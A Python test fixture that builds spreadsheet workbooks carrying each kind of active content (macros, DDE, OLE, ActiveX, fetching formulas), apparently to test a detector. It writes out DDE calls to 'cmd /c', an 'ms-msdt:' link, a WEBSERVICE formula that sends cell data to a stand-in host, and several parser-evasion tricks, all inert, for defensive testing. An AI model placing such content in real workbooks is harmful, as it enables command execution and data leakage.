"""Workbooks that hold more than values: each kind of active content, made by hand, harmless in itself."""

from __future__ import annotations

from tests.workbook_templates.reading_workbook import edited, part_text, with_parts

_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
NOWHERE = "https://example.invalid/never-asked"
"""No such host can exist; nothing may ever try it."""

_SHEET = "xl/worksheets/sheet1.xml"


def _relation(kind: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="rA{abs(hash((kind, target)))}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def related(content: bytes, part: str, *relations: str) -> bytes:
    """The workbook with relations added to a part."""
    folder, _, name = part.rpartition("/")
    listed = f"{folder}/_rels/{name}.rels"
    try:
        text = part_text(content, listed)
    except KeyError:
        text = f'<Relationships xmlns="{_RELATIONS}"></Relationships>'
    return with_parts(
        content, {listed: text.replace("</Relationships>", f"{''.join(relations)}</Relationships>").encode()}
    )


def with_formulas(content: bytes, *formulas: str) -> bytes:
    """The workbook with formulas on its first sheet, far below everything else; each shows made-up cached text."""
    rows = "".join(
        f'<row r="{row}"><c r="A{row}" t="str"><f>{formula}</f><v>cached</v></c></row>'
        for row, formula in enumerate(formulas, start=900)
    )
    return edited(content, _SHEET, lambda xml: xml.replace("</sheetData>", f"{rows}</sheetData>"))


def _link(inside: str) -> bytes:
    return f'<externalLink xmlns="{_MAIN}">{inside}</externalLink>'.encode()


ACTIVE = {
    "macros": (
        lambda content: related(
            with_parts(content, {"xl/vbaProject.bin": b"no project"}),
            "xl/workbook.xml",
            _relation("vbaProject", "vbaProject.bin"),
        ),
        "macros",
    ),
    "macros under another name": (
        lambda content: related(
            with_parts(content, {"xl/media/image9.bin": b"no picture"}),
            "xl/workbook.xml",
            _relation("vbaProject", "/xl/media/image9.bin"),
        ),
        "macros",
    ),
    "macros of Excel 4": (
        lambda content: with_parts(content, {"xl/macrosheets/sheet1.xml": b"<macrosheet/>"}),
        "Excel 4 macros",
    ),
    "link to another workbook": (
        lambda content: related(
            with_parts(content, {"xl/externalLinks/externalLink1.xml": _link("<externalBook/>")}),
            "xl/externalLinks/externalLink1.xml",
            _relation("externalLinkPath", "file:///made-up.xlsx", outside=True),
        ),
        "1 link to another workbook",
    ),
    "DDE": (
        lambda content: with_parts(
            content,
            {"xl/externalLinks/externalLink2.xml": _link('<ddeLink ddeService="cmd" ddeTopic="/c made-up"/>')},
        ),
        "1 DDE link",
    ),
    "OLE link": (
        lambda content: with_parts(content, {"xl/externalLinks/externalLink3.xml": _link("<oleLink/>")}),
        "1 link to an OLE object",
    ),
    "OLE objects": (
        lambda content: related(
            with_parts(content, {"xl/embeddings/oleObject1.bin": b"x", "xl/embeddings/oleObject2.bin": b"x"}),
            _SHEET,
            _relation("oleObject", "../embeddings/oleObject1.bin"),
        ),
        "2 embedded OLE objects",
    ),
    "embedded file": (
        lambda content: with_parts(content, {"xl/embeddings/Notes.docx": b"PK"}),
        "1 embedded file",
    ),
    "ActiveX": (
        lambda content: with_parts(content, {"xl/activeX/activeX1.xml": b"<ocx/>", "xl/activeX/activeX1.bin": b"x"}),
        "1 ActiveX control",
    ),
    "data connections": (
        lambda content: with_parts(
            content,
            {
                "xl/connections.xml": b"<connections><connection><webPr/></connection><connection>"
                b'<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;"/></connection></connections>'
            },
        ),
        "1 data connection, Power Query",
    ),
    "Power Query": (
        lambda content: with_parts(
            content,
            {"customXml/item1.xml": '<DataMashup xmlns="made-up">UEsDBA==</DataMashup>'.encode("utf-16")},
        ),
        "Power Query",
    ),
    "custom XML": (
        lambda content: with_parts(
            content, {"customXml/item1.xml": b"<made-up/>", "customXml/itemProps1.xml": b"<made-up/>"}
        ),
        "1 custom XML part",
    ),
    "Office add-in": (
        lambda content: with_parts(content, {"xl/webextensions/webextension1.xml": b"<we/>"}),
        "1 Office add-in",
    ),
    "ribbon": (lambda content: with_parts(content, {"customUI/customUI14.xml": b"<customUI/>"}), "1 ribbon of its own"),
    "picture from elsewhere": (
        lambda content: related(content, _SHEET, _relation("image", NOWHERE, outside=True)),
        "1 part kept outside the workbook",
    ),
    "links to programs": (
        lambda content: related(
            content,
            _SHEET,
            _relation("hyperlink", "ms-msdt:/id made-up", outside=True),
            _relation("hyperlink", "\\\\server\\made-up", outside=True),
            _relation("hyperlink", "https://example.org/report", outside=True),
        ),
        "2 links to files or programs",
    ),
    "formulas": (
        lambda content: with_formulas(
            content,
            f'_xlfn.WEBSERVICE("{NOWHERE}?"&amp;A1)',
            f'HYPERLINK("{NOWHERE}","made up")',
            'HYPERLINK("#"&amp;A1,"within")',
            f'_xlfn.IMAGE("{NOWHERE}")',
            "&#87;EBSERVICE(A1)",
            'RTD("made.up",,"x")',
            '"see FILTERXML("&amp;A1',
        ),
        "formulas that fetch (HYPERLINK, IMAGE, RTD, WEBSERVICE)",
    ),
    "functions handed on": (
        lambda content: with_formulas(content, "_xlfn.BYROW(A1:A3,_xleta.WEBSERVICE)"),
        "formulas that fetch (WEBSERVICE)",
    ),
    "a call behind a sheet's name that holds a quotation mark": (
        lambda content: with_formulas(content, """'a"b'!A1&amp;RTD("made.up",,"x")"""),
        "formulas that fetch (RTD)",
    ),
    "a call behind a formula that ends within a text": (
        lambda content: with_formulas(content, "A1&amp;&quot;", 'RTD("made.up",,"x")'),
        "formulas that fetch (RTD)",
    ),
    "a call that an instruction to programs parts": (
        lambda content: with_formulas(content, 'RT<?made up?>D("made.up",,"x")'),
        "formulas that fetch (RTD)",
    ),
    "DDE in a formula": (
        lambda content: with_formulas(content, "cmd|'/c made up'!A0", "'a|b'!A1"),
        "formulas that fetch (DDE)",
    ),
    "workbooks in formulas": (
        lambda content: with_formulas(
            content, r"'\\server\[made-up.xlsx]Sheet'!A1", "'C:/made-up.xlsx'!name", "[1]Sheet!A1+'4/5 of'"
        ),
        "formulas that fetch (another workbook)",
    ),
    "formula of a table": (
        lambda content: related(
            with_parts(
                content,
                {
                    "xl/tables/table9.xml": f'<table xmlns="{_MAIN}"><tableColumns><tableColumn name="A">'
                    "<calculatedColumnFormula>_xlfn.WEBSERVICE(A1)</calculatedColumnFormula></tableColumn>"
                    "</tableColumns></table>".encode()
                },
            ),
            _SHEET,
            _relation("table", "../tables/table9.xml"),
        ),
        "formulas that fetch (WEBSERVICE)",
    ),
    "name of one sheet": (
        lambda content: edited(
            content,
            "xl/workbook.xml",
            lambda xml: xml.replace(
                "</definedNames>",
                '<definedName name="your_icb" localSheetId="0">_xlfn.WEBSERVICE("x")</definedName></definedNames>',
            ),
        ),
        "formulas that fetch (WEBSERVICE)",
    ),
    "pivot table of another workbook": (
        lambda content: related(
            with_parts(content, {"xl/pivotCache/pivotCacheDefinition1.xml": b"<pivotCacheDefinition/>"}),
            "xl/pivotCache/pivotCacheDefinition1.xml",
            _relation("externalLinkPath", "file:///made-up.xlsx", outside=True),
        ),
        "1 link to another workbook",
    ),
    "XML map": (lambda content: with_parts(content, {"xl/xmlMaps.xml": b"<MapInfo/>"}), "1 XML map"),
    "picture of an old drawing from elsewhere": (
        lambda content: with_parts(
            content, {"xl/drawings/vmlDrawing9.vml": f'<xml><v:imagedata src="{NOWHERE}"/></xml>'.encode()}
        ),
        "1 part kept outside the workbook",
    ),
    "name": (
        lambda content: edited(
            content,
            "xl/workbook.xml",
            lambda xml: xml.replace(
                "</definedNames>", '<definedName name="made_up">_xlfn.WEBSERVICE("x")</definedName></definedNames>'
            ),
        ),
        "formulas that fetch (WEBSERVICE)",
    ),
    "entry rule": (
        lambda content: edited(
            content,
            _SHEET,
            lambda xml: xml.replace(
                "</sheetData>",
                "</sheetData><dataValidations><dataValidation sqref='A1' type='custom'><formula1>FILTERXML(A1,A2)"
                "</formula1></dataValidation></dataValidations>",
            ),
        ),
        "formulas that fetch (FILTERXML)",
    ),
}
"""What was done, with the words that it is told by."""


def with_everything(content: bytes) -> bytes:
    """A workbook that holds every kind at once."""
    for spoil, _ in ACTIVE.values():
        content = spoil(content)
    return content
